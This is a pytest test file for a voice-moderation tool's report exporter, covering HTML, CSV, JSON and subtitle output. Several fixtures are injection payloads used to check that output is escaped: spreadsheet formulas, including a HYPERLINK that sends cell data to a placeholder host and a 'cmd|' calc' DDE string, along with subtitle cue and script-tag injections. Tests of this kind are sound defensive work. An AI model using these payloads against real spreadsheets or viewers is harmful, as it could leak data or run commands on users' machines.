import csv
import io
import json
import os
import wave
from datetime import UTC, datetime

import pytest

from client.reports import (
    FORMATS,
    REPORT_FORMATS,
    ModeratorDecision,
    ReportEntry,
    ReportError,
    ReportMeta,
    SourceInfo,
    clock,
    file_dialog_filters,
    format_for_path,
    meta_for_live,
    meta_for_scan,
    spreadsheet_cell,
    spreadsheet_text,
    write_report,
)
from models.classifier import Verdict
from models.excerpts import Excerpt
from models.transcriber import Word
from models.voice import Finding, ScanResult, Track, TrackResult
from tests.voice_fixtures import RUDE, layout, needs_espeak, speech, write_wav

ALL_SUFFIXES = (".html", ".csv", ".json", ".srt", ".vtt")


def _finding(text, speaker, start, end, label="non_toxic", score=0.05):
    verdict = Verdict(label, label != "non_toxic", score, {"non_toxic": 1 - score, label: score})
    words = tuple(
        Word(f" {w}", start + i * 0.3, start + i * 0.3 + 0.25, 0.9)
        for i, w in enumerate(text.split())
    )
    excerpt = Excerpt(text, 0, len(text), speaker, start, end)
    return Finding(excerpt, verdict, words, f"/sessions/{speaker}.wav")


FINDINGS = [
    _finding("good game everyone", "bo", 6.0, 7.1),
    _finding("you absolute idiot", "anna", 3661.25, 3662.5, "insult", 0.93),
    _finding("see you <next> time & bye", "cy", 12.0, 13.0),
]
DECIDED_AT = datetime(2026, 11, 29, 20, 10, tzinfo=UTC).timestamp()


def _entries(*decisions):
    return [ReportEntry(f, d) for f, d in zip(FINDINGS, decisions, strict=True)]


def _strict_json(text: str):
    def refuse(name):
        raise AssertionError(f"{name} is not JSON")

    return json.loads(text, parse_constant=refuse)


def test_json_report_keeps_times_words_scores_and_decisions(tmp_path):
    ban = ModeratorDecision("confirm", "insult", "ana", "second strike", DECIDED_AT)
    path = write_report(tmp_path / "s.json", _entries(None, ban, None))
    data = _strict_json(path.read_text())
    assert (data["excerpts"], data["flagged"]) == (3, 1)
    rude = data["findings"][1]
    assert rude["flagged"] and rude["label"] == "insult" and rude["score"] == 0.93
    assert (rude["start"], rude["end"], rude["speaker"]) == (3661.25, 3662.5, "anna")
    assert [w["text"] for w in rude["words"]] == ["you", "absolute", "idiot"]
    assert rude["decision"] == {
        "action": "confirm",
        "label": "insult",
        "moderator": "ana",
        "decided_at": "2026-11-29T20:10:00+00:00",
        "note": "second strike",
    }
    assert rude["status"] == "confirmed" and data["findings"][0]["decision"] is None


def test_counts_are_the_whole_sessions_when_only_flagged_or_decided_lines_are_listed(tmp_path):
    # the moderator dismisses the model's only flag and flags a line the model passed
    dismissed = ModeratorDecision("dismiss", "non_toxic", "ana", "banter", DECIDED_AT)
    threat = ModeratorDecision("relabel", "threat", "bo", "", DECIDED_AT)
    entries = _entries(None, dismissed, threat)
    data = _strict_json(write_report(tmp_path / "f.json", entries, flagged_only=True).read_text())
    assert [f["speaker"] for f in data["findings"]] == ["anna", "cy"]
    assert data["summary"] == {
        "excerpts": 3,
        "model_flagged": 1,
        "flagged_after_review": 1,
        "confirmed": 0,
        "dismissed": 1,
        "relabeled": 0,
        "missed": 1,
        "not_reviewed": 0,
        "listed": 2,
    }
    page = write_report(tmp_path / "f.html", entries, flagged_only=True).read_text()
    assert "3 excerpts in the session; the model flagged 1; after review 1 flagged" in page
    assert "2 listed here" in page


def test_csv_report_has_the_model_and_the_moderator_side_by_side(tmp_path):
    ok = ModeratorDecision("dismiss", "non_toxic", "ana", "", DECIDED_AT)
    path = write_report(tmp_path / "s.csv", _entries(None, ok, None))
    rows = list(csv.DictReader(io.StringIO(path.read_text())))
    assert [r["model_flagged"] for r in rows] == ["no", "yes", "no"]
    assert rows[1]["start"] == "01:01:01.250" and rows[1]["model_label"] == "insult"
    assert (rows[1]["decision"], rows[1]["final_flagged"], rows[1]["moderator"]) == (
        "dismissed",
        "no",
        "ana",
    )
    assert rows[1]["decided_at"] == "2026-11-29T20:10:00+00:00"
    assert float(rows[1]["model_score"]) == pytest.approx(0.93)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    evil = [
        _finding('=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd", 1.0, 2.0, "insult", 0.9),
        _finding("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", 3.0, 4.0),
        _finding("\tstarts with a tab", "\rcr", 5.0, 6.0),
        _finding("-1 hp, that is all", "bo", 7.0, 8.0),
    ]
    decision = ModeratorDecision("confirm", "insult", "=evil()", "@note", DECIDED_AT)
    entries = [ReportEntry(evil[0], decision), *map(ReportEntry, evil[1:])]
    with open(write_report(tmp_path / "e.csv", entries), newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        for column in ("speaker", "text", "moderator", "note"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row[column]
    assert rows[0]["text"] == """'=HYPERLINK("http://x.example/?"&A1,"click")"""
    assert (rows[0]["speaker"], rows[0]["moderator"], rows[0]["note"]) == (
        "'+cmd",
        "'=evil()",
        "'@note",
    )
    assert rows[3]["text"] == "'-1 hp, that is all"
    assert float(rows[0]["model_score"]) == pytest.approx(0.9)  # numbers stay numbers
    assert rows[0]["start"] == "00:00:01.000"


def test_spreadsheet_neutralising_round_trips():
    for text in ("=1+1", "+1", "-_-", "@bob", "\tx", "'quoted", "''", "'=x", "plain", ""):
        assert spreadsheet_text(spreadsheet_cell(text)) == text
    assert spreadsheet_cell("gg") == "gg" and spreadsheet_cell("'sup") == "''sup"


@pytest.mark.parametrize("bad", [float("inf"), float("nan"), float("1e400"), float("-inf")])
def test_a_non_finite_time_is_unknown_not_a_crash_or_nan_in_json(tmp_path, bad):
    odd = _finding("when was this", "dee", bad, bad, "insult", 0.8)
    entries = [ReportEntry(odd), ReportEntry(FINDINGS[0])]
    for suffix in ALL_SUFFIXES:
        text = write_report(tmp_path / f"t{suffix}", entries).read_text()
        assert "Infinity" not in text and "NaN" not in text
        if suffix != ".json":
            assert "unknown time" in text
    data = _strict_json((tmp_path / "t.json").read_text())
    assert data["findings"][0]["start"] is None and data["findings"][0]["end"] is None
    assert all(w["start"] is None for w in data["findings"][0]["words"])
    srt = (tmp_path / "t.srt").read_text().strip().split("\n\n")
    assert srt[0].startswith("1\n00:00:00,000 --> 00:00:01,000\n[unknown time] [FLAGGED insult")
    assert srt[1].startswith("2\n00:00:06,000 --> 00:00:07,100\nbo: good game")


def test_a_message_cannot_add_or_end_subtitle_cues(tmp_path):
    sneaky = _finding(
        "gg\n\n99\n00:00:00,000 --> 10:00:00,000\nfake cue\r\n\nWEBVTT\x07\x1b[31m\u2028end",
        "mallory\n\nNOTE",
        2.0,
        3.0,
    )
    entries = [
        ReportEntry(sneaky, ModeratorDecision("dismiss", "non_toxic", "x\n\ny", "a-->b")),
        ReportEntry(FINDINGS[0]),
    ]
    srt = write_report(tmp_path / "c.srt", entries).read_text()
    cues = srt.strip().split("\n\n")
    assert len(cues) == 2 and srt.count("-->") == 2
    assert cues[0].split("\n")[2] == (
        "mallory NOTE: gg 99 00:00:00,000 10:00:00,000 fake cue WEBVTT[31m end "
        "(moderator: confirmed as non-toxic by x y: a b)"
    )
    vtt = write_report(tmp_path / "c.vtt", entries).read_text()
    cues = [b for b in vtt.strip().split("\n\n")[1:] if not b.startswith("NOTE")]
    assert len(cues) == 2 and all(len(cue.split("\n")) == 2 for cue in cues)
    assert vtt.count("-->") == 2 and "\x07" not in vtt and "\x1b" not in vtt


def test_html_report_is_self_contained_and_escapes_text(tmp_path):
    decision = ModeratorDecision("relabel", "threat", "<b>ana</b>", "<script>x</script>")
    page = write_report(tmp_path / "s.html", _entries(None, decision, None)).read_text()
    assert page.startswith("<!DOCTYPE html>")
    assert "see you &lt;next&gt; time &amp; bye" in page
    assert "&lt;b&gt;ana&lt;/b&gt;" in page and "&lt;script&gt;x&lt;/script&gt;" in page
    assert page.count("<script>") == 1  # only the page's own filter
    assert 'class="relabeled flagged"' in page and ">insult<" in page and ">threat<" in page
    assert "http" not in page and "src=" not in page  # nothing fetched when opened offline


def test_sources_models_and_thresholds_are_listed_and_incomplete_sources_stand_out(tmp_path):
    meta = ReportMeta(
        title="raid night",
        model_name="default",
        model_version="default-v2, sha256 c9ba5deb479b",
        whisper_model="tiny.en",
        thresholds={"toxic": 0.66, "threat": 0.7},
        sources=(
            SourceInfo("/rec/anna.ogg", "anna", 1.9, 4.5),
            SourceInfo("/rec/bo.ogg", "bo", 60.0, 60.0),
            SourceInfo("/rec/cy.ogg", "cy", None, None, ["cy: no speech found"]),
        ),
        warnings=("/rec/gone.wav does not exist",),
    )
    page = write_report(tmp_path / "m.html", FINDINGS, meta).read_text()
    warning = page[page.index("class='warning'") : page.index("</div>")]
    assert "anna.ogg: decoded 1.9 s of 4.5 s declared" in warning
    assert "cy: no speech found" in warning and "gone.wav does not exist" in warning
    assert "bo.ogg" not in warning
    assert "classifier default (default-v2, sha256 c9ba5deb479b)" in page
    assert "Whisper tiny.en" in page and "toxic 0.66, threat 0.70" in page
    data = _strict_json(write_report(tmp_path / "m.json", FINDINGS, meta).read_text())
    assert data["sources"][0] == {
        "path": "/rec/anna.ogg",
        "speaker": "anna",
        "duration_s": 1.9,
        "declared_duration_s": 4.5,
        "complete": False,
        "warnings": ["decoded 1.9 s of 4.5 s declared"],
        "notes": [],
    }
    assert data["sources"][1]["complete"] and data["model"]["thresholds"]["threat"] == 0.7
    assert data["whisper_model"] == "tiny.en" and data["warnings"] == list(meta.warnings)
    vtt = write_report(tmp_path / "m.vtt", FINDINGS, meta).read_text()
    assert "NOTE source /rec/anna.ogg (anna), 1.9 s of 4.5 s declared: INCOMPLETE" in vtt


def test_meta_for_scan_takes_the_tracks_of_a_scan(tmp_path):
    anna = Track(tmp_path / "anna.ogg", "anna")
    silent = Track(tmp_path / "two.ogg", "two", channel=1)
    result = ScanResult(
        findings=tuple(FINDINGS),
        tracks=(
            TrackResult(anna, 1.9, 3, 1, decoded_duration=1.9, declared_duration=4.5),
            TrackResult(silent, 8.0, 0, 0, None, note="two: no speech found"),
        ),
        problems=("gone.wav does not exist.",),
        stopped=True,
    )
    meta = meta_for_scan("modlens scan: anna.ogg", result)
    assert [s.speaker for s in meta.sources] == ["anna", "two"]
    assert (meta.sources[0].duration_s, meta.sources[0].declared_duration_s) == (1.9, 4.5)
    assert meta.sources[0].problems == ("decoded 1.9 s of 4.5 s declared",)
    assert meta.incomplete_sources == (meta.sources[0],)
    assert meta.sources[1].complete and meta.sources[1].notes == ("two: no speech found",)
    assert meta.warnings[0] == "gone.wav does not exist." and "stopped" in meta.warnings[1]


def test_meta_for_live_names_the_recording_and_what_stopped_it(tmp_path):
    from models.live import LiveResult

    recording = tmp_path / "modlens-live.wav"
    result = LiveResult(recording, recording.with_suffix(".jsonl"), (), 42.5)
    meta = meta_for_live("modlens live", result, errors=["The disk is full; capture stopped."])
    (source,) = meta.sources
    assert (source.path, source.duration_s) == (str(recording), 42.5)
    assert not source.complete and "disk is full" in source.problems[0]


def test_one_registry_names_every_format(tmp_path):
    assert [f.name for f in REPORT_FORMATS] == ["html", "csv", "json", "srt", "vtt"]
    assert FORMATS[".htm"] == "html" and format_for_path("X.VTT").name == "vtt"
    assert "HTML page (*.html *.htm)" in file_dialog_filters().split(";;")
    for fmt in REPORT_FORMATS:
        for suffix in fmt.extensions:
            written = write_report(tmp_path / f"r{suffix}", FINDINGS)
            assert written.read_text(encoding="utf-8")


def test_unknown_extension_is_refused_and_nothing_is_written(tmp_path):
    with pytest.raises(ReportError, match=r"use \.html, \.csv, \.json, \.srt or \.vtt"):
        write_report(tmp_path / "s.docx", FINDINGS)
    assert not list(tmp_path.iterdir())


def test_a_failed_write_leaves_no_temporary_file(tmp_path, monkeypatch):
    (tmp_path / "old.json").write_text("the previous report")

    def refuse(source, target):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(ReportError, match="No space left on device"):
        write_report(tmp_path / "old.json", FINDINGS)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["old.json"]
    assert (tmp_path / "old.json").read_text() == "the previous report"
    monkeypatch.undo()
    (tmp_path / "folder.html").mkdir()
    with pytest.raises(ReportError, match="cannot be written"):
        write_report(tmp_path / "folder.html", FINDINGS)
    with pytest.raises(ReportError, match="cannot be written"):
        write_report(tmp_path / "broken.json", [_finding("half \ud800 surrogate", "x", 1, 2)])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["folder.html", "old.json"]


def test_clock_formats_hours_only_when_needed():
    assert clock(12.5) == "00:12.500"
    assert clock(3725.004, ",", hours=True) == "01:02:05,004"
    assert clock(3725.0) == "01:02:05.000"
    assert clock(float("nan")) == clock(float("inf")) == clock(None) == "unknown time"


@needs_espeak
def test_scan_report_names_its_sources_models_and_thresholds(tmp_path, tiny_model_dir):
    from client.cli import main

    anna = write_wav(tmp_path / "anna.wav", layout((0.5, speech(RUDE)), length=3.0))
    report = tmp_path / "r.json"
    args = ["scan", str(anna), "--whisper", "tiny.en", "--model", str(tiny_model_dir)]
    assert main([*args, "--threshold", "0.3", "--report", str(report), "--color", "never"]) == 0
    data = _strict_json(report.read_text())
    assert data["whisper_model"] == "tiny.en" and data["model"]["name"] == tiny_model_dir.name
    assert set(data["model"]["thresholds"].values()) == {0.3}
    (source,) = data["sources"]
    assert (source["path"], source["speaker"], source["complete"]) == (str(anna), "anna", True)
    with wave.open(str(anna)) as audio:
        assert source["duration_s"] == pytest.approx(
            audio.getnframes() / audio.getframerate(), abs=0.05
        )
    assert data["title"] == "modlens scan: anna.wav"
